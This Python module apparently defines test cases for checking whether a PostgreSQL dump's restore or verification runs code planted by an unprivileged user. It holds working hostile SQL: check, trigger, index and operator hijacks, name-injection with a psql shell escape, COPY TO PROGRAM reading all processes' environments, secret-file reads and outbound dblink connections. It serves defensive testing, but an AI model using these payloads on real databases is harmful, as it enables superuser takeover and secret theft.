"""The places where PostgreSQL evaluates code of a database's users, each as SQL that plants hostile code there.

In the SQL of the case NAME: @x is NAME, @n mallory.NAME, @f a function from int to int, @d a domain and @c a composite
type that call it, @t a trigger's and @e an event trigger's function; {folder}, {secret}, {port NAME} are places of the
canary. See hostile.py.
"""

import dataclasses


@dataclasses.dataclass(frozen=True)
class Case:
    """mallory runs `plant`; then a superuser runs `admin`, whose object refers to mallory's code. `trigger`: SQL that a
    superuser runs in a restored copy to see the case fire; without it the restore itself makes it fire."""

    name: str
    plant: str = ""
    admin: str = ""
    trigger: str = ""
    extension: str = ""  # needed for this case


def _literal(name, sql, **more):
    """The input function of a type reads the text of a constant whenever a definition is parsed. If the type contains a
    domain, that runs its check."""
    return Case("literal_in_" + name, sql.replace("LITERAL", "'(1)'::@c"), **more)


INSERT = "INSERT INTO @n VALUES (1)"
TABLE = "CREATE TABLE @n (a int); INSERT INTO @n VALUES (1);"
HOLDS = "(@f(a) = a)"

# Evaluated when rows are loaded.
ROWS = [
    Case("table_check", f"CREATE TABLE @n (a int CHECK {HOLDS}); {INSERT}"),
    Case("check_through_sql_body", "CREATE FUNCTION @n(a int) RETURNS boolean IMMUTABLE BEGIN ATOMIC SELECT @f($1) = 1; END;"
         "CREATE TABLE mallory.atomic_rows (a int CHECK (@n(a))); INSERT INTO mallory.atomic_rows VALUES (1)"),
    Case("check_with_settings", "CREATE FUNCTION @n(a int) RETURNS boolean LANGUAGE plpgsql IMMUTABLE SET search_path = mallory SET role "
         "= 'none' AS "
         "'BEGIN RETURN @f(a) = a; END'; CREATE TABLE mallory.settings_rows (a int CHECK (@n(a))); INSERT INTO mallory.settings_rows "
         "VALUES (1)"),
    Case("check_through_cast", "CREATE TYPE mallory.castable AS (a int); CREATE FUNCTION mallory.castable_int(mallory.castable) RETURNS "
         "int "
         "LANGUAGE plpgsql IMMUTABLE AS 'BEGIN RETURN @f(1); END'; CREATE CAST (mallory.castable AS int) WITH FUNCTION "
         "mallory.castable_int(mallory.castable); CREATE TABLE @n (a mallory.castable CHECK (a::int > 0)); INSERT INTO @n VALUES (ROW(1))"),
    Case("check_through_operator", "CREATE FUNCTION mallory.alike(int, int) RETURNS boolean LANGUAGE plpgsql IMMUTABLE AS 'BEGIN RETURN "
         "@f($1) = $2; END'; "
         "CREATE OPERATOR mallory.=== (FUNCTION = mallory.alike, LEFTARG = int, RIGHTARG = int);"
         f"CREATE TABLE @n (a int CHECK (a OPERATOR(mallory.===) 1)); {INSERT}"),
    Case("inherited_check", f"CREATE TABLE mallory.forebear (a int CHECK {HOLDS}); CREATE TABLE @n () INHERITS (mallory.forebear); "
         f"{INSERT}"),
    Case("domain_check", f"CREATE TABLE @n (a @d); {INSERT}"),
    Case("domain_over_domain", f"CREATE DOMAIN mallory.upper_domain AS @d; CREATE TABLE @n (a mallory.upper_domain); {INSERT}"),
    Case("domain_in_composite", "CREATE TABLE @n (a @c); INSERT INTO @n VALUES (ROW(1))"),
    Case("domain_over_composite", "CREATE DOMAIN mallory.whole AS @c CHECK ((VALUE).a > 0); CREATE TABLE @n (a mallory.whole); "
         "INSERT INTO @n VALUES (ROW(1)::@c)"),
    Case("domain_in_array", "CREATE TABLE @n (a @d[]); INSERT INTO @n VALUES (ARRAY[1])"),
    Case("domain_in_range", "CREATE TYPE mallory.span AS RANGE (SUBTYPE = @d); CREATE TABLE @n (a mallory.span); INSERT INTO @n VALUES "
         "('[1,2]')"),
    Case("domain_in_multirange", "CREATE TYPE mallory.spell AS RANGE (SUBTYPE = @d, MULTIRANGE_TYPE_NAME = mallory.spells); "
         "CREATE TABLE @n (a mallory.spells); INSERT INTO @n VALUES ('{[1,2]}')"),
    Case("domain_in_row_of_table", "CREATE TABLE mallory.row_type (a @d); CREATE TABLE @n (a mallory.row_type); INSERT INTO @n VALUES "
         "(ROW(1))"),
    Case("generated_column", f"CREATE TABLE @n (a int, b int GENERATED ALWAYS AS (@f(a)) STORED); {INSERT}"),
    Case("generated_in_partition", "CREATE TABLE @n (a int, b int GENERATED ALWAYS AS (@f(a)) STORED) PARTITION BY HASH (a); "
         f"CREATE TABLE mallory.generated_part PARTITION OF @n FOR VALUES WITH (MODULUS 1, REMAINDER 0); {INSERT}"),
    Case("list_by_function", f"CREATE TABLE @n (a int) PARTITION BY LIST ((@f(a))); CREATE TABLE mallory.list_part PARTITION OF @n FOR "
         f"VALUES IN (1); {INSERT}"),
    Case("range_by_function", "CREATE TABLE @n (a int) PARTITION BY RANGE ((@f(a))); "
         f"CREATE TABLE mallory.range_part PARTITION OF @n FOR VALUES FROM (1) TO (9); {INSERT}"),
    Case("hash_by_function", "CREATE TABLE @n (a int) PARTITION BY HASH ((@f(a))); CREATE TABLE mallory.hash_0 PARTITION OF @n FOR VALUES "
         "WITH "
         f"(MODULUS 2, REMAINDER 0); CREATE TABLE mallory.hash_1 PARTITION OF @n FOR VALUES WITH (MODULUS 2, REMAINDER 1); {INSERT}"),
    Case("hash_by_enum", "CREATE TYPE mallory.shade AS ENUM ('dark', 'light'); CREATE TABLE @n (a mallory.shade, b int, CHECK (@f(b) = "
         "b)) PARTITION BY "
         "HASH (a); CREATE TABLE mallory.shade_0 PARTITION OF @n FOR VALUES WITH (MODULUS 1, REMAINDER 0); INSERT INTO @n VALUES ('dark', "
         "1)"),
]

# Evaluated when definitions are created.
DEFINITIONS = [
    Case("partition_key_folded", "CREATE TABLE @n (a int) PARTITION BY RANGE ((a + @f(1)))"),
    Case("range_bound_of_domain", "CREATE TABLE @n (a @d) PARTITION BY RANGE (a); CREATE TABLE mallory.bound_range PARTITION OF @n FOR "
         "VALUES FROM (1) TO (9)"),
    Case("list_bound_of_domain", "CREATE TABLE @n (a @d) PARTITION BY LIST (a); CREATE TABLE mallory.bound_list PARTITION OF @n FOR "
         "VALUES IN (1)"),
    Case("aggregate_initcond", "CREATE FUNCTION mallory.step(@d, int) RETURNS @d LANGUAGE sql AS 'SELECT $1'; "
         "CREATE AGGREGATE @n(int) (SFUNC = mallory.step, STYPE = @d, INITCOND = '1')"),
    _literal("view", "CREATE VIEW @n AS SELECT LITERAL AS a"),
    Case("array_literal_in_view", "CREATE VIEW @n AS SELECT '{1}'::@d[] AS a"),
    _literal("default", "CREATE TABLE @n (a @c DEFAULT LITERAL)"),
    _literal("check", "CREATE TABLE @n (a int, CHECK (a > (LITERAL).a))"),
    _literal("generated_column", "CREATE TABLE @n (a int, b int GENERATED ALWAYS AS (a + (LITERAL).a) STORED)"),
    _literal("partition_key", "CREATE TABLE @n (a int) PARTITION BY LIST ((a + (LITERAL).a))"),
    _literal("sql_body", "CREATE FUNCTION @n() RETURNS int BEGIN ATOMIC SELECT (LITERAL).a; END"),
    _literal("argument_default", "CREATE FUNCTION @n(a @c DEFAULT LITERAL) RETURNS int LANGUAGE sql AS 'SELECT 1'"),
    # Types come early in a dump, so everything they need must be a dependency, like the body of such a function.
    Case("literal_in_domain_check", "CREATE FUNCTION mallory.tracked(int) RETURNS int IMMUTABLE BEGIN ATOMIC SELECT CASE WHEN "
         "mallory.fire('@x') THEN $1 END; END;"
         "CREATE DOMAIN mallory.tracked_domain AS int CHECK (mallory.tracked(VALUE) = VALUE); CREATE TYPE mallory.tracked_type AS (a "
         "mallory.tracked_domain);"
         "CREATE DOMAIN @n AS int CHECK (VALUE > ('(1)'::mallory.tracked_type).a)"),
    _literal("rule", "CREATE TABLE @n (a int); CREATE RULE r AS ON UPDATE TO @n DO ALSO SELECT LITERAL"),
    _literal("policy", "CREATE TABLE @n (a int); CREATE POLICY p ON @n USING (a > (LITERAL).a)"),
    _literal("trigger_condition", "CREATE TABLE @n (a int); CREATE TRIGGER t AFTER INSERT ON @n FOR EACH ROW WHEN (NEW.a > (LITERAL).a) "
         "EXECUTE FUNCTION @t()"),
    _literal("index", "CREATE TABLE @n (a int); CREATE INDEX ON @n ((a + (LITERAL).a))"),
    _literal("statistics", "CREATE TABLE @n (a int, b int); CREATE STATISTICS mallory.literal_stat ON (a + (LITERAL).a), b FROM @n"),
    _literal("materialized_view", "CREATE MATERIALIZED VIEW @n AS SELECT LITERAL AS a WITH NO DATA"),
]

# Evaluated when constraints are validated, indexes built and views refreshed. When the server builds an index, analyses
# or refreshes a view, it does so as the owner: there the trigger shows that the code is live when a superuser writes.
CONSTRAINTS = [
    Case("check_validated", f"{TABLE} ALTER TABLE @n ADD CONSTRAINT later CHECK {HOLDS} NOT VALID", trigger="ALTER TABLE @n VALIDATE "
         "CONSTRAINT later"),
    Case("domain_validated", f"CREATE DOMAIN mallory.late AS int; CREATE TABLE @n (a mallory.late); {INSERT}; ALTER DOMAIN mallory.late "
         f"ADD CONSTRAINT later "
         "CHECK (@f(VALUE) = VALUE) NOT VALID", trigger="ALTER DOMAIN mallory.late VALIDATE CONSTRAINT later"),
    Case("foreign_key_through_cast", "CREATE TYPE mallory.key AS (a int); CREATE FUNCTION mallory.key_int(mallory.key) RETURNS int "
         "LANGUAGE plpgsql "
         "IMMUTABLE AS 'BEGIN RETURN @f(($1).a); END'; CREATE CAST (mallory.key AS int) WITH FUNCTION mallory.key_int(mallory.key) AS "
         "IMPLICIT;"
         "CREATE TABLE mallory.referred (a int PRIMARY KEY); INSERT INTO mallory.referred VALUES (1);"
         "CREATE TABLE @n (a mallory.key REFERENCES mallory.referred); INSERT INTO @n VALUES (ROW(1))"),
    Case("expression_index", f"{TABLE} CREATE INDEX ON @n ((@f(a)))", trigger=INSERT),
    Case("partial_index", f"{TABLE} CREATE INDEX ON @n (a) WHERE {HOLDS}", trigger=INSERT),
    Case("unique_expression", f"{TABLE} CREATE UNIQUE INDEX ON @n ((@f(a)))", trigger="INSERT INTO @n VALUES (2)"),
    Case("exclusion_constraint", f"{TABLE} ALTER TABLE @n ADD EXCLUDE ((@f(a)) WITH =)", trigger="INSERT INTO @n VALUES (2)"),
    Case("statistics", f"{TABLE} CREATE STATISTICS mallory.stat ON (@f(a)), a FROM @n", trigger="ANALYZE @n; SELECT * FROM @n WHERE @f(a) "
         "= 1"),
    Case("materialized_view", "CREATE MATERIALIZED VIEW @n AS SELECT @f(1)", trigger="REFRESH MATERIALIZED VIEW @n; SELECT @f(1)"),
    Case("materialized_view_of_view", "CREATE VIEW mallory.below AS SELECT @f(1) AS a; CREATE MATERIALIZED VIEW @n AS SELECT * FROM "
         "mallory.below",
         trigger="REFRESH MATERIALIZED VIEW @n; SELECT * FROM mallory.below"),
    Case("policy", "CREATE TABLE @n (a int); ALTER TABLE @n ENABLE ROW LEVEL SECURITY, FORCE ROW LEVEL SECURITY; GRANT SELECT ON @n TO "
         "victim; "
         f"CREATE POLICY p ON @n USING {HOLDS}; CREATE POLICY q ON @n FOR INSERT WITH CHECK (true); {INSERT}",
         trigger="SET ROLE victim; SELECT * FROM @n"),
    Case("column_default", "CREATE TABLE @n (a int, b int DEFAULT @f(1))", trigger=INSERT),
    Case("sequence_by_function", "CREATE SEQUENCE mallory.counter; CREATE FUNCTION mallory.which() RETURNS regclass LANGUAGE plpgsql AS "
         "'BEGIN PERFORM @f(1); RETURN ''mallory.counter''::regclass; END'; CREATE TABLE @n (a int, b int DEFAULT "
         "nextval(mallory.which()))", trigger=INSERT),
]

# Evaluated when somebody writes to restored tables.
WRITES = [
    Case("insert_rule", "CREATE TABLE @n (a int); CREATE RULE r AS ON INSERT TO @n DO ALSO SELECT @f(1)", trigger=INSERT),
    Case("trigger_before_row", f"{TABLE} CREATE TRIGGER t BEFORE INSERT ON @n FOR EACH ROW EXECUTE FUNCTION @t()", trigger=INSERT),
    Case("trigger_after_row", f"{TABLE} CREATE TRIGGER t AFTER INSERT ON @n FOR EACH ROW EXECUTE FUNCTION @t()", trigger=INSERT),
    Case("trigger_always", f"{TABLE} CREATE TRIGGER t AFTER INSERT ON @n FOR EACH ROW EXECUTE FUNCTION @t(); ALTER TABLE @n ENABLE ALWAYS "
         f"TRIGGER t",
         trigger=f"SET session_replication_role = replica; {INSERT}"),
    Case("trigger_replica", f"{TABLE} CREATE TRIGGER t AFTER INSERT ON @n FOR EACH ROW EXECUTE FUNCTION @t(); ALTER TABLE @n ENABLE "
         f"REPLICA TRIGGER t",
         trigger=f"SET session_replication_role = replica; {INSERT}"),
    Case("trigger_statement", f"{TABLE} CREATE TRIGGER t BEFORE INSERT ON @n EXECUTE FUNCTION @t()", trigger=INSERT),
    Case("trigger_truncate", f"{TABLE} CREATE TRIGGER t BEFORE TRUNCATE ON @n EXECUTE FUNCTION @t()", trigger="TRUNCATE @n"),
    Case("trigger_instead", "CREATE VIEW @n AS SELECT 1 AS a; CREATE TRIGGER t INSTEAD OF INSERT ON @n FOR EACH ROW EXECUTE FUNCTION "
         "@t()", trigger=INSERT),
    Case("trigger_condition", f"{TABLE} CREATE FUNCTION mallory.quiet() RETURNS trigger LANGUAGE plpgsql AS 'BEGIN RETURN NEW; END';"
         "CREATE TRIGGER t BEFORE INSERT ON @n FOR EACH ROW WHEN (@f(NEW.a) = 1) EXECUTE FUNCTION mallory.quiet()", trigger=INSERT),
    Case("constraint_trigger", f"{TABLE} CREATE CONSTRAINT TRIGGER t AFTER INSERT ON @n DEFERRABLE INITIALLY DEFERRED FOR EACH ROW "
         f"EXECUTE FUNCTION @t()",
         trigger=INSERT),
]

# A superuser's or another user's object refers to mallory's code.
REFERRED = [
    Case("superusers_table", admin=f"CREATE TABLE public.@x (a int CHECK {HOLDS}); INSERT INTO public.@x VALUES (1)"),
    Case("superusers_domain", admin="CREATE TABLE public.@x (a @d); INSERT INTO public.@x VALUES (1)"),
    Case("superusers_generated", admin="CREATE TABLE public.@x (a int, b int GENERATED ALWAYS AS (@f(a)) STORED); INSERT INTO public.@x "
         "VALUES (1)"),
    Case("superusers_partition_key", admin="CREATE TABLE public.@x (a int) PARTITION BY RANGE ((a + @f(1)))"),
    Case("superusers_index", admin="CREATE TABLE public.@x (a int); INSERT INTO public.@x VALUES (1); CREATE INDEX ON public.@x ((@f(a)))"),
    Case("superusers_exclusion", admin="CREATE TABLE public.@x (a int); INSERT INTO public.@x VALUES (1), (2); ALTER TABLE public.@x ADD "
         "EXCLUDE ((@f(a)) WITH =)"),
    Case("superusers_matview", admin="CREATE MATERIALIZED VIEW public.@x AS SELECT @f(1) AS a"),
    Case("superusers_matview_of_view", "CREATE VIEW @n AS SELECT @f(1) AS a", "CREATE MATERIALIZED VIEW public.@x AS SELECT * FROM @n"),
    Case("superusers_statistics", admin="CREATE TABLE public.@x (a int); INSERT INTO public.@x VALUES (1); CREATE STATISTICS public.@x ON "
         "(@f(a)), a FROM public.@x",
         trigger="ANALYZE public.@x"),
    Case("superusers_view_literal", admin="CREATE VIEW public.@x AS SELECT '(1)'::@c AS a"),
    Case("superusers_foreign_key", "CREATE TYPE mallory.lock AS (a int); CREATE FUNCTION mallory.lock_int(mallory.lock) RETURNS int "
         "LANGUAGE plpgsql "
         "IMMUTABLE AS 'BEGIN RETURN @f(($1).a); END'; CREATE CAST (mallory.lock AS int) WITH FUNCTION mallory.lock_int(mallory.lock) AS "
         "IMPLICIT",
         "CREATE TABLE public.locks (a int PRIMARY KEY); INSERT INTO public.locks VALUES (1); "
         "CREATE TABLE public.@x (a mallory.lock REFERENCES public.locks); INSERT INTO public.@x VALUES (ROW(1))"),
    Case("operator_class_in_range", "CREATE FUNCTION mallory.compare(int, int) RETURNS int LANGUAGE plpgsql IMMUTABLE AS "
         "'BEGIN PERFORM @f(1); RETURN btint4cmp($1, $2); END'",
         "CREATE OPERATOR CLASS mallory.sorted FOR TYPE int USING btree AS OPERATOR 1 <, OPERATOR 2 <=, OPERATOR 3 =, OPERATOR 4 >=, "
         "OPERATOR 5 >, "
         "FUNCTION 1 mallory.compare(int, int); CREATE TABLE @n (a int) PARTITION BY RANGE (a mallory.sorted); ALTER TABLE @n OWNER TO "
         "mallory; "
         "CREATE TABLE mallory.sorted_1 PARTITION OF @n FOR VALUES FROM (1) TO (5); CREATE TABLE mallory.sorted_2 PARTITION OF @n FOR "
         "VALUES FROM (5) TO (9);"
         "ALTER TABLE mallory.sorted_1 OWNER TO mallory; ALTER TABLE mallory.sorted_2 OWNER TO mallory; INSERT INTO @n VALUES (1), (7)"),
    Case("operator_class_in_hash", "CREATE FUNCTION mallory.hashed(int, bigint) RETURNS bigint LANGUAGE plpgsql IMMUTABLE AS "
         "'BEGIN PERFORM @f(1); RETURN $1; END'",
         "CREATE OPERATOR CLASS mallory.hashing FOR TYPE int USING hash AS OPERATOR 1 =, FUNCTION 2 mallory.hashed(int, bigint);"
         "CREATE TABLE @n (a int) PARTITION BY HASH (a mallory.hashing); CREATE TABLE mallory.hashed_0 PARTITION OF @n FOR VALUES WITH "
         "(MODULUS 1, REMAINDER 0);"
         "ALTER TABLE @n OWNER TO mallory; ALTER TABLE mallory.hashed_0 OWNER TO mallory; INSERT INTO @n VALUES (1)"),
    Case("under_victims_table", admin="CREATE TABLE victim.parent (a int); ALTER TABLE victim.parent OWNER TO victim; "
         "CREATE TABLE victim.@x (b @c DEFAULT '(1)'::@c) INHERITS (victim.parent); ALTER TABLE victim.@x OWNER TO mallory"),
    Case("victims_table", "GRANT EXECUTE ON FUNCTION @f TO victim", "SET SESSION AUTHORIZATION victim; "
         f"CREATE TABLE victim.@x (a int CHECK {HOLDS}); INSERT INTO victim.@x VALUES (1)"),
]

# Event triggers belong to a superuser, their functions to mallory. In a database with event triggers, they also fire
# after a restore.
EVENTS = [
    Case("event_ddl_start", admin="CREATE EVENT TRIGGER @x ON ddl_command_start EXECUTE FUNCTION @e()", trigger="CREATE TABLE "
         "public.ddl_start ()"),
    Case("event_ddl_end", admin="CREATE EVENT TRIGGER @x ON ddl_command_end EXECUTE FUNCTION @e()", trigger="CREATE TABLE public.ddl_end "
         "()"),
    Case("event_sql_drop", admin="CREATE EVENT TRIGGER @x ON sql_drop EXECUTE FUNCTION @e()",
         trigger="CREATE TABLE public.dropped (); DROP TABLE public.dropped"),
    Case("event_table_rewrite", admin="CREATE EVENT TRIGGER @x ON table_rewrite EXECUTE FUNCTION @e()",
         trigger="CREATE TABLE public.rewritten (a int); ALTER TABLE public.rewritten ALTER a TYPE text"),
    Case("event_always", admin="CREATE EVENT TRIGGER @x ON ddl_command_end EXECUTE FUNCTION @e(); ALTER EVENT TRIGGER @x ENABLE ALWAYS",
         trigger="SET session_replication_role = replica; CREATE TABLE public.ddl_always ()"),
    Case("event_replica", admin="CREATE EVENT TRIGGER @x ON ddl_command_end EXECUTE FUNCTION @e(); ALTER EVENT TRIGGER @x ENABLE REPLICA",
         trigger="SET session_replication_role = replica; CREATE TABLE public.ddl_replica ()"),
]

BODY = "LANGUAGE plpgsql AS 'BEGIN PERFORM @f(1); RETURN {}; END'"

# Code that a query of a verifying user calls unintentionally; the query is the trigger.
QUERIES = [
    Case("query_of_view", "CREATE VIEW @n AS SELECT @f(1) AS a; GRANT SELECT ON @n TO PUBLIC", trigger="SELECT * FROM @n"),
    Case("query_of_function", "CREATE TABLE public.people (name varchar); INSERT INTO public.people VALUES ('x'); GRANT SELECT ON "
         "public.people TO PUBLIC;"
         "CREATE FUNCTION public.lower(varchar) RETURNS text " + BODY.format("$1"), trigger="SELECT lower(name) FROM public.people"),
    Case("query_of_operator", "CREATE FUNCTION @n(varchar, varchar) RETURNS boolean " + BODY.format("true") + ";"
         "CREATE OPERATOR public.= (FUNCTION = @n, LEFTARG = varchar, RIGHTARG = varchar)", trigger="SELECT count(*) FROM public.people "
         "WHERE name = 'x'"),
    Case("query_of_aggregate", "CREATE FUNCTION @n(int, varchar) RETURNS int " + BODY.format("1") + ";"
         "CREATE AGGREGATE public.max(varchar) (SFUNC = @n, STYPE = int, INITCOND = 0)", trigger="SELECT max(name) FROM public.people"),
    Case("query_of_cast", "CREATE TYPE mallory.sum AS (a int); CREATE FUNCTION @n(mallory.sum) RETURNS int " + BODY.format("1") + ";"
         "CREATE CAST (mallory.sum AS int) WITH FUNCTION @n(mallory.sum) AS IMPLICIT; CREATE TABLE public.sums (s mallory.sum);"
         "INSERT INTO public.sums VALUES (ROW(1)); GRANT SELECT ON public.sums TO PUBLIC", trigger="SELECT abs(s) FROM public.sums"),
    Case("query_folded", "CREATE TABLE @n (a int); GRANT SELECT ON @n TO PUBLIC; CREATE FUNCTION mallory.planned(int) RETURNS int "
         "IMMUTABLE " +
         BODY.format("1") + "; CREATE VIEW mallory.with_planned AS SELECT a FROM @n WHERE a = mallory.planned(1); GRANT SELECT ON "
         "mallory.with_planned TO PUBLIC",
         trigger="EXPLAIN SELECT * FROM mallory.with_planned"),
    Case("query_in_path", "CREATE FUNCTION @n(oid, oid) RETURNS boolean IMMUTABLE " + BODY.format("$1 OPERATOR(pg_catalog.=) $2") + ";"
         "CREATE OPERATOR public.= (FUNCTION = @n, LEFTARG = oid, RIGHTARG = oid); CREATE FUNCTION public.version() RETURNS text "
         "IMMUTABLE " +
         BODY.format("pg_catalog.version()") + "; DO $$ BEGIN EXECUTE format('ALTER DATABASE %I SET search_path = public, pg_catalog', "
         "current_database()); END $$",
         trigger="SET search_path = public, pg_catalog; SELECT version() FROM pg_class WHERE oid = 1259::oid; RESET search_path"),
]

WEIRD = "CREATE ROLE escaped_@x; --"


def _careless(read):
    """A client that puts a text between quotes without escaping: if it runs the text, the text is a live attack."""
    return f"DO $do$ BEGIN EXECUTE 'SELECT 1 AS \"' || ({read}); END $do$"


def _relation(like):
    return f"SELECT relname FROM pg_class WHERE relkind = 'r' AND relname LIKE '%{like}%'"


# Names and texts that contain SQL.
NAMES = [
    Case("name_of_table", f'CREATE TABLE mallory."x""; {WEIRD}" (a int); INSERT INTO mallory."x""; {WEIRD}" VALUES (1)',
         trigger=_careless(_relation("escaped_@x"))),
    Case("name_of_schema", f'SET ROLE NONE; CREATE SCHEMA "x""; {WEIRD}"; CREATE TABLE "x""; {WEIRD}".t (a int); INSERT INTO "x""; '
         f'{WEIRD}".t VALUES (1)',
         trigger=_careless("SELECT nspname FROM pg_namespace WHERE nspname LIKE '%escaped_@x%'")),
    Case("name_of_column", f'CREATE TABLE @n ("a""; {WEIRD}" int); INSERT INTO @n VALUES (1)',
         trigger=_careless("SELECT attname FROM pg_attribute WHERE attrelid = '@n'::regclass AND attnum = 1")),
    Case("name_of_sequence", f'CREATE SEQUENCE mallory."x""; {WEIRD}"; SELECT nextval(\'mallory."x""; {WEIRD}"\')',
         trigger=_careless("SELECT relname FROM pg_class WHERE relkind = 'S' AND relname LIKE '%escaped_@x%'")),
    Case("name_of_matview", f'CREATE MATERIALIZED VIEW mallory."x""; {WEIRD}" AS SELECT 1 AS a',
         trigger=_careless("SELECT relname FROM pg_class WHERE relkind = 'm' AND relname LIKE '%escaped_@x%'")),
    Case("name_with_line", f'CREATE TABLE mallory."x""\n; {WEIRD}\n" (a int); INSERT INTO mallory."x""\n; {WEIRD}\n" VALUES (1)',
         trigger=_careless(_relation("escaped_@x"))),
    Case("name_command", 'CREATE TABLE mallory."x\n\\! touch {folder}/@x.program\n" (a int)',
         trigger="\\o {folder}/.script\nSELECT '-- Name: ' || relname FROM pg_class WHERE relname LIKE '%@x%' AND relkind = "
         "'r';\n\\o\n\\i {folder}/.script\n"),
    Case("comment", f"CREATE TABLE @n (a int); COMMENT ON TABLE @n IS 'x\"; {WEIRD}'", trigger=_careless("SELECT "
         "obj_description('@n'::regclass)")),
    Case("enum_label", f"CREATE TYPE mallory.label AS ENUM ('x\"; {WEIRD}'); CREATE TABLE @n (a mallory.label); INSERT INTO @n VALUES "
         f"('x\"; {WEIRD}')",
         trigger=_careless("SELECT a FROM @n")),
    Case("stored_text", f"CREATE TABLE @n (a text); INSERT INTO @n VALUES (E'x\"\\n\\\\.\\n; {WEIRD}')", trigger=_careless("SELECT "
         "split_part(a, E'\\\\.', 1) || "
         "split_part(a, E'\\\\.', 2) FROM @n")),
]
USERS = ROWS + DEFINITIONS + CONSTRAINTS + WRITES + QUERIES + NAMES
HOSTILE = USERS + REFERRED + EVENTS


def _view(name, select, before="", **more):
    """A materialized view that was filled once: its restore reads it again."""
    return Case(name, admin=f"{before}CREATE MATERIALIZED VIEW public.@x AS {select} WITH NO DATA; "
                "UPDATE pg_class SET relispopulated = true WHERE relname = '@x'", **more)


SHELL = "umask 0; (id -un; cat /proc/[0-9]*/environ | tr '\\0' '\\n' | grep -a {marker}) > {folder}/@x.program 2> /dev/null; echo 1"
LINK = "SELECT * FROM public.dblink('host={place} user=postgres dbname=postgres connect_timeout=2', 'SELECT 1') AS t(a int)"
DBLINK = "CREATE EXTENSION IF NOT EXISTS dblink; "

# Cases that only a superuser of the source can create or grant: a verifying machine contains them as well.
MACHINE = [
    Case("own_check", admin=f"CREATE FUNCTION public.@x(int) RETURNS boolean LANGUAGE plpgsql AS $f$BEGIN COPY (SELECT 1) TO PROGRAM "
         f"$p$cat > /dev/null; {SHELL}$p$; "
         "RETURN true; EXCEPTION WHEN OTHERS THEN RETURN true; END$f$; CREATE TABLE public.own_checked (a int CHECK (public.@x(a))); "
         "INSERT INTO public.own_checked VALUES (1)"),
    Case("security_definer", "CREATE TABLE @n (a int)", "CREATE FUNCTION public.definer(int) RETURNS int LANGUAGE plpgsql SECURITY "
         "DEFINER AS "
         "$f$BEGIN PERFORM mallory.fire('@x'); RETURN $1; END$f$; ALTER TABLE @n ADD CHECK (public.definer(a) = a); INSERT INTO @n VALUES "
         "(1)"),
    _view("view_of_secret", "SELECT pg_read_file('{secret}') AS s", trigger="COPY (SELECT s FROM public.@x) TO '{folder}/@x.read'"),
    _view("view_of_program", "SELECT * FROM public.program", "CREATE EXTENSION IF NOT EXISTS file_fdw; CREATE SERVER files FOREIGN DATA "
         "WRAPPER file_fdw; "
          f"CREATE FOREIGN TABLE public.program (a text) SERVER files OPTIONS (program '{SHELL}'); ".replace("'\\0' '\\n'", "\"\\0\" "
         "\"\\n\""),
          extension="file_fdw"),
    _view("view_that_writes", "SELECT pg_file_write('{folder}/@x.written', 'x', false) AS n", "CREATE EXTENSION adminpack; "
         "", extension="adminpack"),
    _view("view_that_exports", "SELECT lo_export(4242, '{folder}/@x.exported') AS n", "SELECT lo_from_bytea(4242, 'x'); "),
    _view("link_to_port", LINK.replace("{place}", "127.0.0.1 port={port link_to_port}"), DBLINK, extension="dblink"),
    _view("link_to_socket", LINK.replace("{place}", "{folder} port={port link_to_socket}"), DBLINK, extension="dblink"),
    Case("foreign_table", admin="CREATE EXTENSION postgres_fdw; GRANT USAGE ON FOREIGN DATA WRAPPER postgres_fdw TO mallory; SET SESSION "
         "AUTHORIZATION mallory;"
         "CREATE SERVER elsewhere FOREIGN DATA WRAPPER postgres_fdw OPTIONS (host '127.0.0.1', port '{port foreign_table}', "
         "connect_timeout '2'); "
         "CREATE USER MAPPING FOR mallory SERVER elsewhere OPTIONS (user 'postgres', password 'x'); CREATE FOREIGN TABLE "
         "mallory.elsewhere (a int) SERVER "
         "elsewhere; CREATE MATERIALIZED VIEW @n AS SELECT * FROM mallory.elsewhere WITH NO DATA; RESET SESSION AUTHORIZATION; "
         "UPDATE pg_class SET relispopulated = true WHERE relname = '@x'", extension="postgres_fdw"),
    Case("subscription", admin="CREATE SUBSCRIPTION @x CONNECTION 'host=127.0.0.1 port={port subscription} dbname=postgres' PUBLICATION "
         "none WITH "
         "(connect = false)", trigger="\\set ON_ERROR_STOP 0\nDROP SUBSCRIPTION @x;\n\\set ON_ERROR_STOP 1\nALTER SUBSCRIPTION @x SET "
         "(slot_name = NONE); "
         "DROP SUBSCRIPTION @x"),
    _view("view_of_python", "SELECT public.python() AS a", "CREATE EXTENSION plpython3u; CREATE FUNCTION public.python() RETURNS int "
         "LANGUAGE plpython3u AS $f$\n"
          "import os\nopen('{folder}/@x.program', 'w').write(str(dict(os.environ)))\nreturn 1\n$f$; ", extension="plpython3u"),
]
LISTENING = ("link_to_port", "link_to_socket", "foreign_table", "subscription")
MACHINE_ANSWERS = ("SELECT s FROM public.view_of_secret",)

# New in PostgreSQL 17 and 18.
NEWER = [
    Case("event_login", admin="CREATE EVENT TRIGGER @x ON login EXECUTE FUNCTION @e()", trigger="SELECT 1"),
    Case("event_login_always", admin="CREATE EVENT TRIGGER @x ON login EXECUTE FUNCTION @e(); ALTER EVENT TRIGGER @x ENABLE "
         "ALWAYS", trigger="SELECT 1"),
    Case("temporal_key", "CREATE EXTENSION btree_gist; CREATE TYPE mallory.stays AS RANGE (SUBTYPE = @d); CREATE TABLE @n (a int, b "
         "mallory.stays, "
         "PRIMARY KEY (a, b WITHOUT OVERLAPS)); INSERT INTO @n VALUES (1, '[1,2]')"),
    Case("not_enforced_check", "CREATE TABLE @n (a int, CONSTRAINT later CHECK (@f(a) = a) NOT ENFORCED); " + INSERT,
         trigger="ALTER TABLE @n ADD CHECK (@f(a) = a)"),
    Case("domain_not_null", f"CREATE DOMAIN mallory.named AS @d CONSTRAINT there NOT NULL; CREATE TABLE @n (a mallory.named); {INSERT}"),
    Case("literal_in_virtual_column", "CREATE TABLE @n (a int, b int GENERATED ALWAYS AS (a + 1) VIRTUAL, CHECK (b > ('(1)'::@c).a))"),
    Case("json_table_default", "CREATE VIEW @n AS SELECT * FROM JSON_TABLE('{}'::jsonb, '$' COLUMNS (a @c PATH '$.a' DEFAULT '(1)'::@c ON "
         "EMPTY))"),
]
